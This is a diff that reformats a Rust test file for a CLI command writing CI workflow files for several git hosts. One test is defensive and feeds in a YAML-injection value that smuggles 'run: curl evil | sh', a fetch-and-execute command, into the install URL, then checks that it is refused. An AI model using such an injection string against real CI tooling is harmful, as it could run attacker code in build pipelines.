@@ -34,7 +34,11 @@ fn repo_with_ledger(sb: &Sandbox, rel: &str) -> TestRepo {
 fn git_setup(sb: &Sandbox, repo: &TestRepo, rel: &str, extra: &[&str]) -> Output {
     let mut args = vec!["-f", rel, "git-setup"];
     args.extend(extra);
-    sb.cmd().current_dir(repo.dir()).args(args).output().unwrap()
+    sb.cmd()
+        .current_dir(repo.dir())
+        .args(args)
+        .output()
+        .unwrap()
 }
 
 /// The file `git-setup --ci host` wrote, read as the host reads YAML.
@@ -114,9 +118,18 @@ fn each_host_s_file_runs_the_check_that_passes_a_good_ledger_and_stops_a_broken_
     for (host, file) in HOSTS {
         let sb = Sandbox::new();
         let repo = repo_with_ledger(&sb, "ledger.json");
-        let out = git_setup(&sb, &repo, "ledger.json", &["--ci", host, "--install-from", URL]);
+        let out = git_setup(
+            &sb,
+            &repo,
+            "ledger.json",
+            &["--ci", host, "--install-from", URL],
+        );
         assert!(out.status.success(), "{host}: {}", stderr(&out));
-        assert!(stdout(&out).contains(&format!("{file} written")), "{}", stdout(&out));
+        assert!(
+            stdout(&out).contains(&format!("{file} written")),
+            "{}",
+            stdout(&out)
+        );
         let doc = written(&repo, file);
         let vars = ci_env(host, &doc);
         assert!(vars.contains(&("FOLLOWUP_LEDGER".into(), "ledger.json".into())));
@@ -135,7 +148,11 @@ fn each_host_s_file_runs_the_check_that_passes_a_good_ledger_and_stops_a_broken_
             "  \"items\": [\n<<<<<<< HEAD\n=======\n>>>>>>> seoul\n",
             1,
         );
-        let marker_line = marked.lines().position(|l| l.starts_with("<<<<<<<")).unwrap() + 1;
+        let marker_line = marked
+            .lines()
+            .position(|l| l.starts_with("<<<<<<<"))
+            .unwrap()
+            + 1;
         std::fs::write(&ledger, &marked).unwrap();
         let bad = run_line(&sb, repo.dir(), &vars, &line);
         assert_eq!(bad.status.code(), Some(1), "{host}");
@@ -187,7 +204,11 @@ fn the_install_line_asks_cargo_for_the_pinned_source() {
     let sb = Sandbox::new();
     for (host, _) in HOSTS {
         let args = install_args(&sb, host, Some("v0.1.0"));
-        let at = |flag: &str| args.iter().position(|a| a == flag).map(|i| args[i + 1].as_str());
+        let at = |flag: &str| {
+            args.iter()
+                .position(|a| a == flag)
+                .map(|i| args[i + 1].as_str())
+        };
         assert_eq!(at("--git"), Some(URL), "{host}: {args:?}");
         assert_eq!(at("--rev"), Some("v0.1.0"), "{host}: {args:?}");
         assert!(args.contains(&"--locked".to_owned()), "{host}: {args:?}");
@@ -202,7 +223,12 @@ fn actions_are_pinned_to_full_commits() {
     for host in ["github", "forgejo", "gitea"] {
         let sb = Sandbox::new();
         let repo = repo_with_ledger(&sb, "ledger.json");
-        git_setup(&sb, &repo, "ledger.json", &["--ci", host, "--install-from", URL]);
+        git_setup(
+            &sb,
+            &repo,
+            "ledger.json",
+            &["--ci", host, "--install-from", URL],
+        );
         let file = HOSTS.iter().find(|(h, _)| *h == host).unwrap().1;
         let doc = written(&repo, file);
         let uses: Vec<&str> = doc["jobs"]["ledger"]["steps"]
@@ -236,7 +262,14 @@ fn the_files_follow_each_host_s_schema() {
     let sb = Sandbox::new();
     let repo = repo_with_ledger(&sb, "위원회/Comité mixto/ledger.json");
     for (host, file) in HOSTS {
-        let extra = ["--ci", host, "--install-from", URL, "--install-rev", "v0.1.0"];
+        let extra = [
+            "--ci",
+            host,
+            "--install-from",
+            URL,
+            "--install-rev",
+            "v0.1.0",
+        ];
         let out = git_setup(&sb, &repo, "위원회/Comité mixto/ledger.json", &extra);
         assert!(out.status.success(), "{host}: {}", stderr(&out));
         let (schema, transform): (&str, &[&str]) = match host {
@@ -252,14 +285,24 @@ fn the_files_follow_each_host_s_schema() {
                 .unwrap()
         };
         let out = check(&repo.path(file));
-        assert!(out.status.success(), "{host}: {}{}", stdout(&out), stderr(&out));
+        assert!(
+            out.status.success(),
+            "{host}: {}{}",
+            stdout(&out),
+            stderr(&out)
+        );
         // The validator does refuse: the same file with its job's runner
         // (or its script) misspelt fails.
         let text = std::fs::read_to_string(repo.path(file)).unwrap();
-        let broken = text.replace("runs-on:", "runs_on:").replace("script:", "scripts:");
+        let broken = text
+            .replace("runs-on:", "runs_on:")
+            .replace("script:", "scripts:");
         let bad = sb.path("broken.yml");
         std::fs::write(&bad, broken).unwrap();
-        assert!(!check(&bad).status.success(), "{host}: the broken file passed");
+        assert!(
+            !check(&bad).status.success(),
+            "{host}: the broken file passed"
+        );
     }
 }
 
@@ -270,7 +313,11 @@ fn a_ledger_path_that_could_inject_yaml_is_refused_and_nothing_is_written() {
         let repo = repo_with_ledger(&sb, rel);
         let out = git_setup(&sb, &repo, rel, &["--ci", "github", "--install-from", URL]);
         assert_eq!(out.status.code(), Some(1), "{rel}: {}", stdout(&out));
-        assert!(stderr(&out).contains("a CI file cannot carry"), "{}", stderr(&out));
+        assert!(
+            stderr(&out).contains("a CI file cannot carry"),
+            "{}",
+            stderr(&out)
+        );
         assert!(!repo.path(".github").exists(), "{rel}");
         // Refused before git was changed.
         assert!(!repo.path(".gitattributes").exists(), "{rel}");
@@ -278,7 +325,12 @@ fn a_ledger_path_that_could_inject_yaml_is_refused_and_nothing_is_written() {
     let sb = Sandbox::new();
     let repo = repo_with_ledger(&sb, "ledger.json");
     let url = "https://x/'\n  run: curl evil | sh";
-    let out = git_setup(&sb, &repo, "ledger.json", &["--ci", "gitlab", "--install-from", url]);
+    let out = git_setup(
+        &sb,
+        &repo,
+        "ledger.json",
+        &["--ci", "gitlab", "--install-from", url],
+    );
     assert_eq!(out.status.code(), Some(1));
     assert!(!repo.path(".gitlab-ci.yml").exists());
 }
@@ -292,8 +344,13 @@ fn a_path_with_spaces_and_hangul_reaches_the_check_as_written() {
     assert!(out.status.success(), "{}", stderr(&out));
     let doc = written(&repo, ".gitlab-ci.yml");
     let vars = ci_env("gitlab", &doc);
-    assert!(vars.contains(&("FOLLOWUP_LEDGER".into(), rel.into())), "{vars:?}");
-    let changes = doc["followup-ledger"]["rules"][1]["changes"].as_array().unwrap();
+    assert!(
+        vars.contains(&("FOLLOWUP_LEDGER".into(), rel.into())),
+        "{vars:?}"
+    );
+    let changes = doc["followup-ledger"]["rules"][1]["changes"]
+        .as_array()
+        .unwrap();
     assert!(changes.contains(&Value::from(rel)), "{changes:?}");
     let run = run_line(&sb, repo.dir(), &vars, &check_line("gitlab", &doc));
     assert!(run.status.success(), "{}", stderr(&run));
@@ -317,13 +374,22 @@ fn a_different_file_is_kept_unless_forced_and_a_link_is_never_followed() {
     let forced = [&ci[..], &["--force"]].concat();
     let out = git_setup(&sb, &repo, "ledger.json", &forced);
     assert!(out.status.success(), "{}", stderr(&out));
-    assert!(stdout(&out).contains(".gitlab-ci.yml replaced"), "{}", stdout(&out));
+    assert!(
+        stdout(&out).contains(".gitlab-ci.yml replaced"),
+        "{}",
+        stdout(&out)
+    );
     written(&repo, ".gitlab-ci.yml");
 
     let outside = sb.path("outside");
     std::fs::create_dir(&outside).unwrap();
     std::os::unix::fs::symlink(&outside, repo.path(".forgejo")).unwrap();
-    let out = git_setup(&sb, &repo, "ledger.json", &["--ci", "forgejo", "--install-from", URL]);
+    let out = git_setup(
+        &sb,
+        &repo,
+        "ledger.json",
+        &["--ci", "forgejo", "--install-from", URL],
+    );
     assert_ne!(out.status.code(), Some(0));
     assert_eq!(std::fs::read_dir(&outside).unwrap().count(), 0);
 }
@@ -335,14 +401,30 @@ fn what_was_written_is_said_in_the_user_s_language() {
     let run = |lang: &str| {
         sb.cmd()
             .current_dir(repo.dir())
-            .args(["--lang", lang, "git-setup", "--ci", "forgejo", "--install-from", URL])
+            .args([
+                "--lang",
+                lang,
+                "git-setup",
+                "--ci",
+                "forgejo",
+                "--install-from",
+                URL,
+            ])
             .output()
             .unwrap()
     };
     let es = run("es");
-    assert!(stdout(&es).contains("Se escribió .forgejo/workflows/followup.yml"), "{}", stdout(&es));
+    assert!(
+        stdout(&es).contains("Se escribió .forgejo/workflows/followup.yml"),
+        "{}",
+        stdout(&es)
+    );
     let ko = run("ko");
-    assert!(stdout(&ko).contains("이미 최신 상태입니다"), "{}", stdout(&ko));
+    assert!(
+        stdout(&ko).contains("이미 최신 상태입니다"),
+        "{}",
+        stdout(&ko)
+    );
     // --install-from without --ci, and --ci without --install-from, are usage errors.
     let lone = sb
         .cmd()
@@ -351,5 +433,9 @@ fn what_was_written_is_said_in_the_user_s_language() {
         .output()
         .unwrap();
     assert_eq!(lone.status.code(), Some(1));
-    assert!(stderr(&lone).contains("--install-from"), "{}", stderr(&lone));
+    assert!(
+        stderr(&lone).contains("--install-from"),
+        "{}",
+        stderr(&lone)
+    );
 }
